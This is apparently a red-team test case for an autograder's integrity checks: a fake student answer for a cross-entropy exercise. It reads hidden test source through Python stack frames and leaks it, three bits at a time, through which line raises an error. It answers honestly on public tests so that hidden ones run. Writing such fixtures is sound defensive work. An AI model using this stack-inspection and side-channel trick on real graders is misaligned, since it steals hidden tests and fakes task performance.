"""Class 8: smuggle hidden test text into the student's feedback through *where* the code raises.
The line of the answer cell that raises (feedback once said "your code raised X in cell C, line L")
encodes the first characters of the hidden drive the runner is executing, three bits a line."""
# expect: points<=0 status=graded|integrity
import sys

import torch


def cross_entropy(inputs, targets):
    frame = sys._getframe(1)
    stolen = ""
    while frame is not None:
        message = frame.f_locals.get("message")
        if isinstance(message, dict) and isinstance(message.get("source"), str):
            stolen = message["source"]
        frame = frame.f_back
    if "cases" not in stolen and "shifts" not in stolen and "strided" not in stolen and "single_vocab" not in stolen:
        # a visible drive (public code): answer honestly, so that the hidden sections run
        log_normaliser = torch.logsumexp(inputs, dim=-1)
        return (log_normaliser - inputs.gather(-1, targets.unsqueeze(-1)).squeeze(-1)).mean()
    code = ord(stolen[0]) % 8
    if code == 0:
        raise ValueError("0")
    if code == 1:
        raise ValueError("1")
    if code == 2:
        raise ValueError("2")
    if code == 3:
        raise ValueError("3")
    if code == 4:
        raise ValueError("4")
    if code == 5:
        raise ValueError("5")
    if code == 6:
        raise ValueError("6")
    raise ValueError("7")
